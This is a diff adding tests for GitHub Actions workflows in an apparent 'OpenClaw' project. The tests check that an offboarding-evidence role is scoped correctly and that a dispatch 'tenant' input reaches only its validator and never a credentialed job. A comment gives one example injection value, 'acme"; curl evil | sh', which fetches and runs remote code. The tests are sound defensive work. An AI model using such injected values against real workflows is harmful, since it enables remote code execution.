@@ -115,7 +115,7 @@ describe.each(files)("%s", (file) => {
 
   test("assumes roles only through role-to-assume from the role variables, with the account id masked", () => {
     for (const s of steps(file).filter((s) => s.uses?.startsWith("aws-actions/configure-aws-credentials@"))) {
-      expect(String(s.with?.["role-to-assume"])).toMatch(/^\$\{\{ vars\[format\('OPENCLAW_(PLAN|DEPLOY|IMAGE_PUSH|IMAGE_VERIFY)_ROLE_ARN_\{0\}', matrix\.envKey\)\] \}\}$/);
+      expect(String(s.with?.["role-to-assume"])).toMatch(/^\$\{\{ vars\[format\('OPENCLAW_(PLAN|DEPLOY|IMAGE_PUSH|IMAGE_VERIFY|OFFBOARDING_EVIDENCE)_ROLE_ARN_\{0\}', matrix\.envKey\)\] \}\}$/);
       expect(s.with?.["mask-aws-account-id"]).toBe(true);
     }
   });
@@ -318,6 +318,111 @@ describe("the workflows the roles trust (bootstrap/settings.ts) are exactly thos
 
   test("the deploy role: deploy.yml and deploy-ring.yml (its rings), in the production environment", () => {
     expect(using("OPENCLAW_DEPLOY_ROLE_ARN")).toEqual([...DEPLOY_WORKFLOWS].sort());
+  });
+
+  test("the offboarding evidence role: offboarding-evidence.yml only, in the production environment like the deploy role", () => {
+    // eslint-disable-next-line @typescript-eslint/no-require-imports
+    const { OFFBOARDING_EVIDENCE_WORKFLOWS } = require("../../bootstrap/settings") as { OFFBOARDING_EVIDENCE_WORKFLOWS: string[] };
+    expect(using("OPENCLAW_OFFBOARDING_EVIDENCE_ROLE_ARN")).toEqual([...OFFBOARDING_EVIDENCE_WORKFLOWS].sort());
+    for (const f of OFFBOARDING_EVIDENCE_WORKFLOWS) {
+      const jobs = Object.values(workflow(f).jobs).filter((j) => JSON.stringify(j).includes("OPENCLAW_OFFBOARDING_EVIDENCE_ROLE_ARN"));
+      expect(jobs.length).toBeGreaterThan(0);
+      for (const j of jobs) expect(j.environment).toBe("production");
+    }
+  });
+});
+
+/**
+ * Where a workflow_dispatch input may go (the attack: `tenant` = `acme"; curl evil | sh`, or a
+ * value that reaches a credentialed job before anything checked it): only into the env of a
+ * step in a job without an OIDC token or write scope, whose script hands it to the tool that
+ * validates it (`offboard --list --evidence-only --tenant`, TENANT_ID_PATTERN). Everything
+ * after that uses the tool's output, never the input.
+ */
+function dispatchInputProblems(wf: Workflow, input: string, validator: RegExp): string[] {
+  const problems: string[] = [];
+  const ref = new RegExp(`(inputs|github\\.event\\.inputs)\\.${input}\\b`);
+  for (const [id, job] of Object.entries(wf.jobs)) {
+    const { steps: jobSteps, ...rest } = job;
+    if (ref.test(JSON.stringify(rest))) problems.push(`${id}: the ${input} input outside a step's env (job name, if, env, concurrency, matrix...)`);
+    for (const s of jobSteps ?? []) {
+      const { env, ...other } = s as Step & Record<string, unknown>;
+      if (ref.test(JSON.stringify(other))) problems.push(`${id}: the ${input} input in a step's ${Object.keys(other).filter((k) => ref.test(JSON.stringify(other[k]))).join(", ")}`);
+      const carriers = Object.entries(env ?? {}).filter(([, v]) => ref.test(String(v)));
+      if (carriers.length === 0) continue;
+      if (credentialed(job)) problems.push(`${id}: the ${input} input reaches a job with a credential before it was checked`);
+      const script = (s.run ?? "").replace(/\\\n/g, " ");
+      for (const [name] of carriers) {
+        const uses = script.split("\n").filter((l) => l.includes(`$${name}`) || l.includes(`\${${name}`));
+        if (uses.length === 0 || uses.some((l) => !validator.test(l))) problems.push(`${id}: $${name} (the ${input} input) reaches a script other than its validator: ${uses.join(" | ") || "(unused)"}`);
+      }
+    }
+  }
+  return problems;
+}
+
+describe("offboarding-evidence.yml (the daily evidence run, issue 29)", () => {
+  const FILE = "offboarding-evidence.yml";
+  const wf = () => workflow(FILE);
+  const VALIDATOR = /^\s*npm run -s offboard -- --list --evidence-only .*--tenant "\$TENANT"/;
+  type EvidenceJob = Job & { needs?: string | string[]; concurrency?: { group: string; "cancel-in-progress"?: boolean }; strategy?: { matrix?: unknown } };
+
+  test("runs daily and on demand, with one optional input: the tenant", () => {
+    const on = wf().on as { schedule: { cron: string }[]; workflow_dispatch: { inputs: Record<string, { required?: boolean }> } };
+    expect(events(wf()).sort()).toEqual(["schedule", "workflow_dispatch"]);
+    expect(on.schedule).toHaveLength(1);
+    expect(on.schedule[0].cron).toMatch(/^\d+ \d+ \* \* \*$/); // once a day
+    expect(Object.keys(on.workflow_dispatch.inputs)).toEqual(["tenant"]);
+    expect(on.workflow_dispatch.inputs.tenant.required).toBe(false);
+  });
+
+  test("the tenant input reaches only its validator, in a job without a credential", () => {
+    expect(dispatchInputProblems(wf(), "tenant", VALIDATOR)).toEqual([]);
+    const checked = Object.values(wf().jobs).flatMap((j) => (j.steps ?? []).filter((s) => JSON.stringify(s.env ?? {}).includes("inputs.tenant")));
+    expect(checked).toHaveLength(1);
+  });
+
+  test("an input passed to a credentialed job, to any other script, or used in a job name is caught (the attack)", () => {
+    const attacked = (from: string, to: string) => {
+      const raw = text(FILE);
+      expect(raw).toContain(from);
+      return parse(raw.replace(from, to)) as Workflow;
+    };
+    // straight into the credentialed evidence job
+    expect(dispatchInputProblems(attacked("TENANT: ${{ matrix.tenant }}", "TENANT: ${{ inputs.tenant }}"), "tenant", VALIDATOR)).toEqual([
+      "evidence: the tenant input reaches a job with a credential before it was checked",
+      expect.stringContaining("evidence: $TENANT (the tenant input) reaches a script other than its validator"),
+    ]);
+    // into the job's name
+    expect(dispatchInputProblems(attacked("name: evidence ${{ matrix.environment }}", "name: evidence ${{ inputs.tenant }}"), "tenant", VALIDATOR)).toEqual([expect.stringContaining("evidence: the tenant input outside a step's env")]);
+    // used by a second command next to the validator
+    const w = wf();
+    const step = (w.jobs.target.steps ?? []).find((s) => JSON.stringify(s.env ?? {}).includes("inputs.tenant"))!;
+    step.run = `echo "checking $TENANT"\n${step.run}`;
+    expect(dispatchInputProblems(w, "tenant", VALIDATOR)).toEqual([expect.stringContaining('target: $TENANT (the tenant input) reaches a script other than its validator: echo "checking $TENANT"')]);
+  });
+
+  test("the evidence job uses the validated tenant from the matrix the validator wrote, and only the evidence role", () => {
+    const job = wf().jobs.evidence as EvidenceJob;
+    expect(job.needs).toBe("target");
+    expect(job.strategy?.matrix).toBe("${{ fromJSON(needs.target.outputs.matrix) }}");
+    const run = (job.steps ?? []).map((s) => (s.run ?? "").replace(/\\\n/g, " ")).join("\n");
+    expect(run).toMatch(/npm run -s offboard -- --evidence-only --tenants tenants --cdktf-json cdktf\.json --environment "\$ENVIRONMENT" +\$\{TENANT:\+--tenant "\$TENANT"\} --summary "\$GITHUB_STEP_SUMMARY"/);
+    expect(JSON.stringify(job.steps)).toContain('"TENANT":"${{ matrix.tenant }}"');
+    expect(text(FILE)).not.toMatch(/OPENCLAW_(DEPLOY|PLAN|IMAGE_PUSH|IMAGE_VERIFY)_ROLE_ARN/);
+    expect(job.permissions).toEqual({ contents: "read", "id-token": "write" });
+    // No terraform, no synth: the evidence run changes records, never resources.
+    expect(text(FILE)).not.toMatch(/setup-terraform|npm run synth|deploy-stacks|--synth/);
+  });
+
+  test("never runs beside an offboard job of the same environment, and never cancels one (or a pending deploy)", () => {
+    const job = wf().jobs.evidence as EvidenceJob;
+    const offboardJob = workflow("deploy.yml").jobs.offboard as EvidenceJob;
+    expect(job.concurrency).toEqual({ group: "offboarding-${{ matrix.environment }}", "cancel-in-progress": false });
+    expect(offboardJob.concurrency).toEqual(job.concurrency);
+    // Not deploy.yml's group: a queued evidence run would replace a *pending* deploy run.
+    expect(wf().concurrency).toEqual({ group: "offboarding-evidence", "cancel-in-progress": false });
+    expect(JSON.stringify(wf())).not.toContain("deploy-main");
   });
 });
 
